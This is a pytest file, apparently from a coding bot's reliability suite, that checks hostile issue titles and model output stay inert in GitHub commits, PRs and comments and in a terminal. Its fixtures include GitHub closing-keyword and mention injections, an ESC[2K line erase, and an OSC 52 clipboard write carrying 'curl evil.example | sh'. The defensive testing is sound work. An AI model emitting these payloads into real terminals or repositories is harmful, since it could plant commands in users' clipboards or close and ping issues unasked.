"""Hostile issue, issue 18 §5: text that leaves the bot is inert.

- An issue titled to cross-reference other issues, mention people and close an issue on
  merge ("… closes #7 (see octo/other#3, GH-5)") goes through the whole stack (the fake
  GitHub, Redis, a real worker, the scripted model) to a draft PR; the pushed commit
  message, the PR's title and body, the branch name and every comment are parsed as GitHub
  would: the plain-text fields with a regex set taken from GitHub's documented autolinks
  and closing keywords, the Markdown ones with the CommonMark parse of the "Hostile
  Markdown" scenario.
- `frognano solve` in a real pty, with a scripted model whose tool arguments, file names
  and final answer carry an OSC 52 clipboard write and an ESC[2K line erase: the
  terminal's screen, emulated from the bytes the pty carried, must show the warning that
  quotes them, and no OSC 52 may reach it.
"""

from __future__ import annotations

import base64
import fcntl
import json
import os
import pty
import re
import select
import struct
import subprocess
import sys
import termios
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from bot.messages import STATUS_MARKER
from solver.models.scripted import final_answer, think_and_call
from tests.conftest import git
from tests.reliability.conftest import Recorder
from tests.reliability.stack import FIX_CALC, OWNER, Stack, StackOptions, running_stack, wait_for
from tests.support.sandbox_support import HAVE_BWRAP, reachable_dir
from tests.unit.bot.test_markdown_safety import live

pytestmark = [pytest.mark.reliability,
              pytest.mark.skipif(not HAVE_BWRAP, reason="bubblewrap is not installed")]

SHA = "a5c3785ed8d6a35868bc169f07e40e889087fd2e"
HOSTILE_TITLE = (f"add() subtracts; closes #7 (see octo/other#3, GH-5), fixes: "
                 f"https://github.com/octo/other/issues/9, resolves octo/calc-text#1, "
                 f"cc @octocat @octo/security, reverts {SHA} and octo/other@{SHA[:12]}")
HOSTILE_SUMMARY = f"Fixed add. Closes #7, fixes GH-5 and octo/other#3; @octocat see {SHA}."
# What GitHub links in a commit message or a title (plain text, no Markdown): its
# "Autolinked references and URLs" page (issue/PR numbers, GH-, owner/repo#, URLs, commit
# SHAs, user@SHA, owner/repo@SHA) and "Using keywords in issues and pull requests" (a
# keyword, an optional colon, then an issue reference closes it when merged).
_REFERENCE = r"(?:(?<![\w/])#\d+|\bGH-\d+|\b[\w.-]+/[\w.-]+#\d+|https?://\S+/(?:issues|pull)/\d+)"
PLAIN_AUTOLINKS = {
    "closing keyword": re.compile(
        rf"\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?):?\s+{_REFERENCE}", re.IGNORECASE),
    "reference": re.compile(_REFERENCE, re.IGNORECASE),
    "mention": re.compile(r"(?<![\w`])@[A-Za-z0-9]"),
    "commit": re.compile(r"\b[0-9a-f]{7,40}\b"),
    "url": re.compile(r"[a-z]+://|\bwww\.", re.IGNORECASE),
}


def plain_live(text: str) -> dict[str, list[str]]:
    """Everything GitHub would link in a plain-text field, by kind."""
    found = {kind: pattern.findall(text) for kind, pattern in PLAIN_AUTOLINKS.items()}
    return {kind: hits for kind, hits in found.items() if hits}


def test_the_plain_text_check_can_fail() -> None:
    """Raw, the hostile title is live in every way the check looks for."""
    assert set(plain_live(HOSTILE_TITLE)) == set(PLAIN_AUTOLINKS)
    assert len(plain_live(HOSTILE_TITLE)["closing keyword"]) == 3


# calc-text is fixed; calc-text-fails has an `add` that prints the hostile text and
# fails, so its run ends with a failure comment quoting the test output.
LOUD_CALC = ("def add(a, b):\n    print(" + repr(HOSTILE_TITLE) + ")\n    return a-b\n\n\n"
             "def mul(a, b):\n    return a * b\n")
TITLE_SCRIPT = [
    think_and_call("Make add loud where asked.", "Bash",
                   command="if [ -f LOUD ]; then cp LOUD calc.py; fi; true"),
    FIX_CALC,  # finds nothing to replace in the loud calc.py, which keeps failing
    final_answer(HOSTILE_SUMMARY),
]


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    with running_stack(tmp_path_factory.mktemp("hostile-text"),
                       StackOptions(TITLE_SCRIPT)) as stack:
        issue = (HOSTILE_TITLE, "`add(2, 3)` returns -1.")
        stack.add_calc_repo("calc-text", issue=issue)
        stack.add_calc_repo("calc-text-fails", {"LOUD": LOUD_CALC,
                                                ".github/frognano.yml": "max_rounds: 1\n"},
                            issue=issue)
        yield stack


def _pushed(stack: Stack, repo: str) -> tuple[list[str], str]:
    """The branches of the fake GitHub's bare repository, and the message of the bot's
    commit, as `git log` shows them."""
    bare = stack.fake.repo(OWNER, repo).bare_path
    branches = git(bare, "for-each-ref", "--format=%(refname:short)", "refs/heads/").split()
    return branches, git(bare, "log", "-1", "--format=%B", "frognano/issue-1")


def test_a_hostile_issue_title_is_inert_everywhere_the_bot_writes_it(
        stack: Stack, scorecard: Recorder) -> None:
    record = scorecard(
        "18-hostile-text-title", "Hostile text: an issue title that references, mentions "
        "and closes",
        "the pushed commit message, the PR title, the branch name and every comment hold "
        "no live reference, mention, closing keyword, commit SHA or URL (GitHub's autolink "
        "rules; Markdown through CommonMark); only the bot's own `Fixes #1` is live")
    assert stack.label("calc-text", 1).status_code == 202
    assert stack.label("calc-text-fails", 1).status_code == 202
    [pull] = wait_for(lambda: stack.fake.pulls(OWNER, "calc-text"), timeout=180,
                      message="the PR")
    wait_for(lambda: "opened a draft pull request" in stack.status("calc-text", 1),
             timeout=60, message="the final status")
    wait_for(lambda: "could not finish" in stack.status("calc-text-fails", 1),
             timeout=180, message="the failed run's status")
    branches, message = _pushed(stack, "calc-text")
    comments = [c.body for repo, number in (("calc-text", 1), ("calc-text", pull.number),
                                            ("calc-text-fails", 1))
                for c in stack.fake.comments(OWNER, repo, number)]
    # The status comment's hidden marker and the PR's own address are the bot's.
    own_pull = re.compile(rf"\S+/{OWNER}/calc-text/pull/{pull.number}\b")
    in_comments = [live(own_pull.sub("the PR", body.replace(STATUS_MARKER, "")))
                   for body in comments]
    # The failure comment links the run's page and its transcript, the bot's own.
    page = f"https://frognano.example/runs/{OWNER}/calc-text-fails/1/1"
    run_links = [str({"href": url}) for url in (page, f"{page}#events")]
    for found in in_comments:
        if found.get("link_open") == run_links:
            del found["link_open"]
    body = live(pull.body)
    body.pop("link_open", None)  # the transcript link, the bot's own (its own scenario)
    record.observed = {
        "commit message live": plain_live(message), "PR title live": plain_live(pull.title),
        "branches": branches, "PR body live": body,
        "comments": len(comments), "comments live": [c for c in in_comments if c]}
    assert plain_live(pull.title) == {}, pull.title
    assert plain_live(message) == {"closing keyword": ["Fixes #1"], "reference": ["#1"]}, \
        message
    assert message.startswith("add() subtracts; closes") and "[skip ci]" in message
    assert branches == ["frognano/issue-1", "main"]
    assert all(plain_live(branch) == {} for branch in branches)
    assert body == {"reference": ["#1"]}  # "Fixes #1", the bot's own
    assert len(comments) >= 3 and in_comments == [{}] * len(comments), comments
    assert any("did not open a pull request" in c for c in comments)


# --- the terminal -----------------------------------------------------------------------

OSC52 = f"\x1b]52;c;{base64.b64encode(b'curl evil.example | sh').decode()}\x07"
ERASE = "\x1b[2K"
NESTED = f"vendor{ERASE}"  # a nested repository the warning names, erasing its own line
TERMINAL_SCRIPT = [
    # One short command each: the progress line cuts a long one at 80 characters.
    think_and_call("Vendor a copy.", "Bash", command=f"mkdir -p '{NESTED}/.git'"),
    think_and_call("Copy to the clipboard.", "Bash", command=f"echo '{OSC52}'"),
    think_and_call("Tidy the line.", "Bash", command=f"echo {ERASE}done"),
    FIX_CALC,
    final_answer(f"Fixed add.{OSC52}{ERASE}"),
]
ROWS, COLUMNS = 60, 200
_CSI = re.compile(r"\x1b\[([0-9;?]*)([@-~])")
# Ended by BEL or ST; rich drops a BEL, and a terminal then ends it at the next ESC.
_OSC = re.compile(r"\x1b\](.*?)(?:\x07|\x1b\\|(?=\x1b)|$)", re.S)


class Screen:
    """Just enough of a VT100 to replay what `frognano solve` and rich send: printable
    text, CR, LF, backspace, CSI cursor moves and erases (rich's live line uses them), SGR
    and modes (ignored); OSC strings are recorded, as a terminal would act on them."""

    def __init__(self) -> None:
        self.lines: list[list[str]] = [[]]
        self.row = self.col = 0
        self.osc: list[str] = []

    def feed(self, data: str) -> None:
        at = 0
        while at < len(data):
            csi, osc = _CSI.match(data, at), _OSC.match(data, at)
            if csi:
                self._csi(csi.group(1), csi.group(2))
                at = csi.end()
            elif osc:
                self.osc.append(osc.group(1))
                at = osc.end()
            else:
                self._char(data[at])
                at += 1

    def _csi(self, params: str, final: str) -> None:
        count = int(params) if params.isdigit() else None
        if final == "A":
            self.row = max(0, self.row - (count or 1))
        elif final == "G":
            self.col = (count or 1) - 1
        elif final == "K":
            line = self._line()
            if count in (None, 0):
                del line[self.col:]
            elif count == 1:
                line[:self.col + 1] = [" "] * min(len(line), self.col + 1)
            else:
                line.clear()

    def _char(self, char: str) -> None:
        if char == "\r":
            self.col = 0
        elif char == "\n":
            self.row += 1
            self._line()
        elif char == "\b":
            self.col = max(0, self.col - 1)
        elif char.isprintable():
            line = self._line()
            line.extend(" " * (self.col - len(line) + 1))
            line[self.col] = char
            self.col += 1

    def _line(self) -> list[str]:
        while len(self.lines) <= self.row:
            self.lines.append([])
        return self.lines[self.row]

    def text(self) -> str:
        return "\n".join("".join(line).rstrip() for line in self.lines)


def test_the_screen_obeys_what_it_is_sent() -> None:
    """The check can fail: raw, the erase takes the warning and the OSC 52 is acted on."""
    screen = Screen()
    screen.feed(f"warning: left out `{NESTED}/.git`: nested\r\nok {OSC52}\r\n")
    assert "warning" not in screen.text() and "/.git`: nested" in screen.text()
    assert screen.osc == [OSC52[2:-1]]
    screen.feed(f"{OSC52[:-1]}\x1b[0m")  # as rich passes it on: without its BEL
    assert screen.osc[1:] == [OSC52[2:-1]]


def _in_a_pty(argv: list[str], env: dict[str, str], timeout: float = 300) -> bytes:
    """Run `argv` with a pty as its terminal (ROWS × COLUMNS); all it wrote."""
    master, slave = pty.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", ROWS, COLUMNS, 0, 0))
    proc = subprocess.Popen(argv, stdin=slave, stdout=slave, stderr=slave, env=env,
                            close_fds=True)
    os.close(slave)
    output = bytearray()
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([master], [], [], 1.0)
            if not ready:
                if proc.poll() is not None:
                    break
                continue
            try:
                chunk = os.read(master, 65536)
            except OSError:  # EIO: the child closed its side
                break
            if not chunk:
                break
            output += chunk
    finally:
        os.close(master)
        if proc.poll() is None:
            proc.kill()
        proc.wait(timeout=30)
    return bytes(output)


def test_solve_shows_the_models_escapes_and_never_sends_them(
        calc_repo: Path, tmp_path: Path, scorecard: Recorder) -> None:
    record = scorecard(
        "18-hostile-text-terminal", "Hostile text: terminal escapes from the model in "
        "`frognano solve`",
        "in a real pty, tool arguments, a file name and the final answer with OSC 52 and "
        "ESC[2K: no OSC reaches the terminal, and the warning quoting the file name stays "
        "on the screen with the escapes shown as text")
    script = tmp_path / "script.json"
    script.write_text(json.dumps(TERMINAL_SCRIPT))
    with reachable_dir() as work:
        env = {**os.environ, "FROGNANO_STATE_DIR": str(tmp_path / "state"),
               "FROGNANO_WORK_DIR": str(work / "work"), "TERM": "xterm-256color",
               "COLUMNS": str(COLUMNS), "LINES": str(ROWS)}
        raw = _in_a_pty([sys.executable, "-m", "frognano", "solve", str(calc_repo),
                         "--issue", "add() subtracts", "--model", f"scripted:{script}"], env)
    output = raw.decode("utf-8", "replace")
    screen = Screen()
    screen.feed(output)
    shown = screen.text()
    warning = next((line for line in shown.splitlines() if "left out" in line), "")
    record.observed = {"OSC strings sent": len(screen.osc), "warning on screen": warning,
                       "model's erase shown as text": "\\x1b[2K" in shown,
                       "committed": "committed" in shown}
    assert "committed" in shown, output[-3000:]
    assert screen.osc == [] and "\x1b]" not in output, screen.osc
    assert warning.startswith("warning: left out `vendor\\x1b[2K/.git`"), shown
    assert f"Bash echo '\\x1b]52;c;{OSC52[7:-1]}\\x07'" in shown  # the tool line, as text
